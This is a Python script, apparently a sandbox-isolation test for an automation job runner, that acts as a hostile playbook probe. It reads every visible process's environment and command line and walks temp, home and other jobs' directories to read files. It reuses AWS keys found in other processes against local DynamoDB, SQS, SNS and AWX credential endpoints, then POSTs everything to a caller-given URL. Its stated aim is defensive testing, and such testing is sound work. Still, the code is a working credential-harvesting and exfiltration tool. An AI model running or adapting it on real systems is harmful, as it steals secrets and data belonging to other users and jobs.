"""What a hostile playbook can reach. Usage: hostile_probe.py REPORT_URL [PATH...]

The JSON report (everything read, raw) is POSTed to REPORT_URL, where the test reads it; stdout
gets one short line, so a leak cannot hide behind the runner's redaction or event size limits."""
import base64, glob, json, os, socket, stat, sys, time, urllib.request

report = {"uid": os.getuid(), "gid": os.getgid(), "env": dict(os.environ), "procs": {}, "files": {}, "services": []}
MAX = 256 * 1024


def read(path):
    try:
        with open(path, "rb") as f:
            return f.read(MAX)
    except Exception:
        return None


# Every process this one can see: environment, command line, working directory.
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    entry = {}
    for what in ("environ", "cmdline"):
        data = read("/proc/%s/%s" % (pid, what))
        if data is not None:
            entry[what] = base64.b64encode(data).decode()
    try:
        entry["cwd"] = os.readlink("/proc/%s/cwd" % pid)
    except Exception:
        pass
    if entry:
        report["procs"][pid] = entry

# The ancestors: the runner would be up there.
pid, chain = os.getpid(), []
while pid > 1:
    status = read("/proc/%d/status" % pid) or b""
    ppid = [l for l in status.decode(errors="replace").splitlines() if l.startswith("PPid:")]
    pid = int(ppid[0].split()[1]) if ppid else 0
    chain.append(pid)
report["ancestors"] = chain

# Files: the ancestors' working directories, temp dirs (other jobs'), homes, and what the caller names.
targets = set(sys.argv[2:]) | {"/tmp", "/var/tmp", "/dev/shm", "/root", os.path.expanduser("~"), "/var/lib/towerless-job"}
for entry in report["procs"].values():
    if "cwd" in entry:
        targets.add(entry["cwd"])
for t in list(targets):
    targets |= set(glob.glob(t + "/towerless-*"))
total = 0
for t in sorted(targets):
    for dirpath, dirs, files in os.walk(t):
        # /proc is read above; /sys and /dev hold files whose reads block (kmsg, ttys).
        dirs[:] = [d for d in dirs if d not in ("node_modules", ".git")
                   and not os.path.join(dirpath, d).startswith(("/proc", "/sys", "/dev/"))]
        for name in files:
            path = os.path.join(dirpath, name)
            try:
                regular = stat.S_ISREG(os.lstat(path).st_mode)  # a FIFO would block the read
            except OSError:
                regular = False
            data = read(path) if regular and total < 48 * 1024 * 1024 else None
            if data is not None:
                total += len(data)
                report["files"][path] = base64.b64encode(data).decode()

# Every listening TCP port: try it as DynamoDB, SQS and the AWX API, with any access key found anywhere.
keys = {"local", os.environ.get("AWS_ACCESS_KEY_ID", "local")}
for entry in report["procs"].values():
    for var in base64.b64decode(entry.get("environ", "")).split(b"\0"):
        if var.startswith(b"AWS_ACCESS_KEY_ID="):
            keys.add(var.split(b"=", 1)[1].decode(errors="replace"))
ports = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    for line in (read(table) or b"").decode().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A":  # LISTEN
            ports.add(int(fields[1].split(":")[1], 16))
report["ports"] = sorted(ports)


def call(port, target, body, key, content_type):
    headers = {"Content-Type": content_type,
               "Authorization": "AWS4-HMAC-SHA256 Credential=%s/20260101/us-east-1/dynamodb/aws4_request, "
                                "SignedHeaders=host, Signature=00" % key}
    if target:
        headers["X-Amz-Target"] = target
    request = urllib.request.Request("http://127.0.0.1:%d/" % port, data=body.encode(), headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=1) as r:
            return r.status, r.read(2000).decode(errors="replace")
    except urllib.error.HTTPError as e:
        return e.code, e.read(2000).decode(errors="replace")
    except Exception as e:
        return -1, type(e).__name__


deadline = time.time() + 90
for port in sorted(ports):
    if time.time() > deadline:
        report["services"].append({"port": port, "as": "skipped", "status": 0, "body": "out of time"})
        continue
    if call(port, "DynamoDB_20120810.ListTables", "{}", "local", "application/x-amz-json-1.0")[0] == -1:
        continue  # not an HTTP service that answers
    for key in sorted(keys):
        for kind, target, body, ctype in (
                ("dynamodb", "DynamoDB_20120810.ListTables", "{}", "application/x-amz-json-1.0"),
                ("dynamodb-scan", "DynamoDB_20120810.Scan", json.dumps({"TableName": "towerless-resources"}),
                 "application/x-amz-json-1.0"),
                ("sqs", None, "Action=ListQueues&Version=2012-11-05", "application/x-www-form-urlencoded"),
                ("sns", None, "Action=ListTopics&Version=2010-03-31", "application/x-www-form-urlencoded")):
            status, text = call(port, target, body, key, ctype)
            report["services"].append({"port": port, "as": kind, "key": key, "status": status, "body": text[:500]})
    try:
        with urllib.request.urlopen("http://127.0.0.1:%d/api/v2/credentials/" % port, timeout=1) as r:
            report["services"].append({"port": port, "as": "api", "status": r.status, "body": r.read(2000).decode()})
    except urllib.error.HTTPError as e:
        report["services"].append({"port": port, "as": "api", "status": e.code, "body": ""})
    except Exception as e:
        report["services"].append({"port": port, "as": "api", "status": -1, "body": type(e).__name__})

payload = json.dumps(report).encode()
urllib.request.urlopen(urllib.request.Request(sys.argv[1], data=payload, headers={"Content-Type": "application/json"}),
                       timeout=30).read()
print("PROBE SENT %d bytes, %d processes, %d files, %d ports" % (len(payload), len(report["procs"]),
                                                              len(report["files"]), len(report["ports"])))
